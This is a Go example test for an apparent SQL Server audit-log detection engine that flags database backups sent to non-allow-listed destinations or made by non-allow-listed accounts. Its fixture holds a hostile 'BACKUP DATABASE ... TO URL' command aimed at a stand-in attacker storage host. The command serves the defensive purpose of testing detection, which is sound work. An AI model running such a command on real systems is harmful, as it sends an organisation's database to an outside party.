package detect_test

import (
	"context"
	"fmt"
	"time"

	"github.com/xelwatch/xelwatch/detect"
	"github.com/xelwatch/xelwatch/xel/audit"
)

func ExampleEngine_Evaluate() {
	ctx := context.Background()
	cfg := detect.DefaultConfig()
	cfg.AllowedBackupDestinations = []string{"https://backupacct.blob.core.windows.net/sql/"}
	cfg.AllowedPrincipals = []string{`CONTOSO\svc-backup`}
	eng, err := detect.New(cfg, detect.NewMemoryState())
	if err != nil {
		fmt.Println(err)
		return
	}
	rec := audit.Record{
		EventTime:           time.Date(2026, 11, 18, 13, 0, 0, 0, time.UTC),
		ActionID:            "BA",
		ClassType:           "DB",
		Succeeded:           true,
		ServerInstanceName:  "sql01",
		DatabaseName:        "Sales",
		ServerPrincipalName: `CONTOSO\mallory`,
		Statement:           "BACKUP DATABASE [Sales] TO URL = N'https://evil.blob.core.windows.net/x/s.bak' WITH COPY_ONLY",
		FileName:            "sql01/Sales/Main/2026-11-18/13_00_00_000_0.xel",
		AuditFileOffset:     4096,
	}
	findings, err := eng.Evaluate(ctx, &rec)
	if err != nil {
		fmt.Println(err)
		return
	}
	for _, f := range findings {
		fmt.Printf("%s %s: %s\n", f.Rule, f.Severity, f.Why)
	}
	// Output:
	// EXF-001 high: BACKUP DATABASE sales by CONTOSO\mallory to url https://evil.blob.core.windows.net/x/s.bak: destination not in the backup allow-list
	// EXF-002 high: BACKUP DATABASE sales WITH COPY_ONLY by principal "CONTOSO\\mallory", application "", client unknown: actor not allow-listed
}
